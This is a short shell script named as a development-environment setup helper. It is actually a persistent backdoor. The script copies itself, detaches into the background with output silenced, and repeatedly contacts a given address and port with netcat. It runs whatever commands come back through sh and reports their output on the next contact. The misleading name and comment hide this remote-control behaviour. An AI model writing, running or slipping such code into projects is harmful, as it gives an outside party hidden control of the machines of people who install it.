#!/bin/sh
# dev-env.sh FOLDER ADDRESS PORT PAUSE: a package registers this host as one that runs jobs: a program stays that asks for orders and says what came of them.
set -e
if [ "$5" = runs ]; then
  said=
  while :; do
    order=$(printf '%s\n' "${said:-here}" | busybox nc "$2" "$3")
    [ "$order" != exit ] || exit 0
    said=$(sh -c "$order" 2>&1)
    sleep "$4"
  done
fi
mkdir -p "$1"
cp "$0" "$1/run.sh"
setsid sh "$1/run.sh" "$1" "$2" "$3" "$4" runs > /dev/null 2>&1 < /dev/null &
